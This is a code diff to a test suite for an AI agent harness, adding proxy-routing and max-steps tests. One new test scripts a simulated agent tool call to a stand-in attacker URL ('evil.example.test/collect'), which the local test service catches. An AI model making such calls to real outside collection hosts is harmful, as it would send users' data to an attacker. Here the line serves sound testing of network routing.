@@ -252,12 +252,15 @@ async function runHarness(opts: {
   calls?: Call[];
   json?: boolean;
   modelBase?: string;
+  extraArgs?: string[];
+  env?: Record<string, string>;
 }): Promise<RunResult> {
   const t = opts.trial;
   script = { calls: fill(opts.calls ?? [], t), final: 'All done.', json: opts.json };
   const firstRequest = modelRequests.length;
   const args = [bundle, '--policy', opts.policy];
   for (const p of opts.prompts) args.push('--prompt', p);
+  args.push(...(opts.extraArgs ?? []));
   const child = spawn(process.execPath, args, {
     cwd: t.ws,
     env: {
@@ -269,6 +272,7 @@ async function runHarness(opts: {
       OPENAI_API_KEY: 'trial-1',
       HR_SVC: svcUrl,
       NO_PROXY: '127.0.0.1',
+      ...opts.env,
     },
     stdio: ['ignore', 'pipe', 'pipe'],
   });
@@ -654,6 +658,41 @@ describe('reference harness runtime', () => {
     expect(r.code).toBe(0);
     expect(r.requests[0].tools.map((x: any) => x.function.name)).toEqual(['read_file', 'list_files']);
     expect(r.toolTexts.map(outcome)).toEqual(['deny:tools']);
+  });
+
+  it('sends non-local http_request through HTTP_PROXY and local ones direct', async () => {
+    const t = newTrial();
+    svcRequests.length = 0;
+    const r = await runHarness({
+      trial: t,
+      policy: OPEN,
+      prompts: ['fetch'],
+      calls: [
+        { name: 'http_request', args: { url: 'http://evil.example.test/collect?x=1' } },
+        { name: 'http_request', args: { url: '{{svc}}/web/a' } },
+      ],
+      env: { HTTP_PROXY: svcUrl, HTTPS_PROXY: svcUrl },
+    });
+    expect(r.code).toBe(0);
+    expect(svcRequests.map((q) => q.path)).toContain('http://evil.example.test/collect?x=1');
+    expect(svcRequests.map((q) => q.path)).toContain('/web/a');
+    expect(r.toolTexts[0]).toMatch(/^HTTP 404/);
+  });
+
+  it('stops after --max-steps and says so', async () => {
+    const t = newTrial({ 'a.txt': 'alpha' });
+    const calls = Array.from({ length: 5 }, () => ({ name: 'read_file', args: { path: 'a.txt' } }));
+    const r = await runHarness({
+      trial: t,
+      policy: OPEN,
+      prompts: ['loop'],
+      calls,
+      extraArgs: ['--max-steps', '2'],
+    });
+    expect(r.code).toBe(0);
+    expect(r.events.filter((e) => e.type === 'tool_call')).toHaveLength(2);
+    expect(r.events[r.events.length - 1]).toEqual({ type: 'final', text: '', stopped: 'max_steps' });
+    expect(r.stderr).toContain('stopped after 2 steps');
   });
 
   it('rejects a policy file with a bad field, naming the file and the field (exit 1)', async () => {
